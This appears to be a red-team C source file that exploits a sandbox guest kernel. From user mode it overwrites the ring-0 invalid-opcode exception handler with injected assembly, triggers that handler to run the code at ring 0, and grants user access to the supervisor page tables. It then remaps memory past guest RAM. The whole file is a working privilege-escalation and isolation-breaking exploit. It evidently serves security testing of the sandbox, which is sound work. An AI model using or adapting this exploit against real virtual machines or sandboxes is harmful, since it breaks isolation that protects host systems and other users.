/* RED TEAM (../shared/redteam/rt_cpl0.c, kept as found): CPL3 rewrites the CPL0 #UD handler (image text is user-writable
 * and executable), then triggers #UD: our code runs at CPL0, grants user
 * access to the supervisor PT page (0xc000) via PT0, returns to CPL3, which
 * then rewrites the page tables directly and maps memory past guest RAM. */
#include "payload.h"

extern char exc_6_stub_target[];
extern char pwn_begin[], pwn_end[];
__asm__(
	".text\n"
	".globl pwn_begin\n.globl pwn_end\n"
	"pwn_begin:\n"
	"  movq %cr3, %rax\n"               /* privileged: proves CPL0 */
	"  movq %rax, 0x200000\n"           /* record it for CPL3 (user page) */
	"  movq $0xc000, %rax\n"            /* PT0 */
	"  orq  $4, 0x60(%rax)\n"           /* PT0[0xc] |= U: PT0 page itself */
	"  orq  $4, 0x40(%rax)\n"           /* PT0[0x8] |= U: PD page */
	"  movq %cr3, %rax\n  movq %rax, %cr3\n" /* flush TLB */
	"  addq $2, (%rsp)\n"               /* skip ud2 */
	"  iretq\n"
	"pwn_end:\n");

static void msg(struct hc_client *c, const char *s)
{
	size_t n = 0;
	char *dst = (char *)(uintptr_t)HC_REGION_MSGBUF_OFF;
	while (s[n]) { dst[n] = s[n]; n++; }
	struct hc_msg req = { .op = HC_OP_MESSAGE, .level = HC_LEVEL_WARNING,
			      .len = n, .buf = HC_REGION_MSGBUF_OFF };
	raw_hostcall(c, &req);
}

static void hex(char *p, uint64_t v) { for (int i = 15; i >= 0; i--) { p[i] = "0123456789abcdef"[v & 15]; v >>= 4; } }

void sandbox_entry(struct hc_client *c, void *heap, size_t heap_len)
{
	(void)heap, (void)heap_len;
	/* Find the #UD handler through the IDT table pointer in the image header. */
	uint64_t *vectors = *(uint64_t **)(uintptr_t)(KVM_IMAGE_BASE + 24);
	volatile uint8_t *h = (volatile uint8_t *)(uintptr_t)vectors[6];
	for (char *p = pwn_begin; p < pwn_end; p++)
		*h++ = (uint8_t)*p;          /* CPL3 write into CPL0 handler text */
	__asm__ volatile("ud2");             /* -> our code at CPL0 */
	char text[] = "RT: back at CPL3 after CPL0 code ran; cr3=0x................";
	hex(text + sizeof(text) - 17, *(volatile uint64_t *)(uintptr_t)0x200000);
	msg(c, text);
	/* Now CPL3 edits the PD directly: map 2 MiB past guest memory. */
	uint64_t past = c->region_len;
	volatile uint64_t *pd = (volatile uint64_t *)(uintptr_t)KVM_PD;
	pd[past >> 21] = 0x0 | 0x87;         /* past -> guest-phys 0 alias, user */
	__asm__ volatile("" ::: "memory");
	msg(c, "RT: CPL3 wrote the PD (supervisor page table) without faulting");
	payload_exit(c, 0);
	spin_forever();
}
